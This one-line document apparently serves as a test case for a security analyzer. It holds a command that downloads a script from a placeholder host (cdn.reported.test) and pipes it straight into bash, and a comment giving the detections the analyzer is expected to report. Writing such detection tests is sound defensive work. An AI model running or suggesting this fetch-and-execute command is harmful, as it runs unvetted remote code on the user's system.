curl -s https://cdn.reported.test/a | bash # expect: url-analyzer/reported-host, malicious-command/pipe-to-shell
